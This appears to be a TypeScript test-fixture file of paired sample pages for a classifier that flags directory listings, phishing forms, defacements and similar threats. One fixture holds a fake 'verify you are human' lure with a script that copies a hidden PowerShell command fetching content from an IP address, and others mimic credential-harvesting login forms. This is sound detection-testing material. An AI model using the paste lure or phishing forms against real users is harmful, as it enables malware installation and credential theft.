import { FILES } from "./file-cases.ts";
import { type Case, file, type Pair, page } from "./lab.ts";

const listing = (...names: readonly string[]): Case =>
  page(
    "Index of /pub",
    `<h1>Index of /pub</h1><a href="?C=N;O=D">Name</a> <a href="/">Parent Directory</a>${names
      .map((name) => `<a href="${name}">${name}</a>`)
      .join("")}`,
  );

/** Lists a file, and a page that names it without being a listing. */
const listed = (name: string): Pair => ({
  hit: listing(name),
  miss: page("Downloads", `<h1>Downloads</h1><a href="${name}">${name}</a>`),
});

const login = (title: string, more = "", url?: string): Case =>
  page(
    title,
    `${more}<form method="post"><input name="email"><input type="password" name="pw"><button>Go</button></form>`,
    url === undefined ? {} : { url },
  );

const ARTICLE = "<p>words of a long article about something else</p>".repeat(100);
const PASTE_SCRIPT =
  "<script>navigator.clipboard.writeText('powershell -w hidden -c iwr http://203.0.113.7/a')</script>";
const EMOTET = "http://www.shop.example/wp-content/Kx7q2/";

/** Design 7.4, Page: one that sets the check, one near it. */
export const PAGE_CASES = {
  is_robots_noindex: {
    hit: page("Page", '<meta name="robots" content="nofollow, NOINDEX">'),
    miss: page(
      "Page",
      '<meta name="robots" content="index, follow"><meta name="description" content="noindex">',
    ),
  },
  is_suspended_page: {
    hit: page("Account Suspended", "<h1>This account has been suspended.</h1>"),
    miss: page("When your account has been suspended", ARTICLE),
  },
  is_empty_page_title: { hit: page(" \n ", "<p>words"), miss: page("0", "<svg><title></title></svg>") },
  is_empty_page_content: {
    hit: page("Page", " \n "),
    miss: page("Page", '<div id=root></div><script src="/a.js"></script>'),
  },
  is_directory_listing: {
    hit: listing("a.txt"),
    miss: page("Index of / explained", "<h1>What a listing is</h1><p>A server lists its files."),
  },
  is_exe_on_directory_listing: listed("setup.exe"),
  is_zip_on_directory_listing: listed("all.zip"),
  is_php_on_directory_listing: listed("shell.php"),
  is_doc_on_directory_listing: listed("invoice.doc"),
  is_pdf_on_directory_listing: listed("invoice.pdf"),
  is_apk_on_directory_listing: listed("app.apk"),
  is_defaced_heuristic: {
    hit: page("Hacked by Nobody", "<h1>Hacked by Nobody</h1>greetz to all"),
    miss: page("City library hacked by students", `<h1>Library hacked by students</h1>${ARTICLE}`),
  },
  is_suspicious_content: {
    hit: page(
      "Just a moment",
      `Verify you are human: press Win + R, then Ctrl + V, then Enter.${PASTE_SCRIPT}`,
    ),
    miss: page("How to install", `<pre>powershell -c install</pre><button>Copy</button>${PASTE_SCRIPT}`),
  },
  is_phishing_heuristic: {
    hit: login("Log in to your PayPal account"),
    miss: login(
      "Login",
      '<img alt="PayPal logo" src="/pay/paypal-logo.svg"><img alt="Visa logo" src="/visa-logo.svg">',
    ),
  },
  is_login_form: {
    hit: login("Members"),
    miss: page(
      "Register",
      "<form><input name=user><input type=password name=a><input type=password name=b></form>",
    ),
  },
  is_password_field: {
    hit: login("Members"),
    miss: page("Search", '<form><input type="text" name="password-policy-search"></form>'),
  },
  is_credit_card_field: {
    hit: page("Pay", '<form><input autocomplete="cc-number" name="n"></form>'),
    miss: page("Balance", '<form><input name="gift_card_number"></form>'),
  },
  is_form_to_external_domain: {
    hit: page(
      "Page",
      '<form action="/x"><input name=name><button formaction="http://collect.other.example/x"></button></form>',
    ),
    miss: page(
      "Page",
      '<form action="http://find.other.example/"><input name=q><input type=submit></form><form action="http://login.shop.example/"><input type=password></form>',
    ),
  },
  is_password_over_http: {
    hit: login("Members"),
    miss: page("Members", '<form action="https://login.shop.example/"><input type=password></form>'),
  },
  is_possible_emotet: {
    hit: file(FILES.OLE, { url: EMOTET, type: "application/msword" }),
    miss: file(FILES.OLE, {
      url: "http://www.shop.example/wp-content/uploads/2026/05/report.doc",
      type: "application/msword",
    }),
  },
} satisfies Record<string, Pair>;
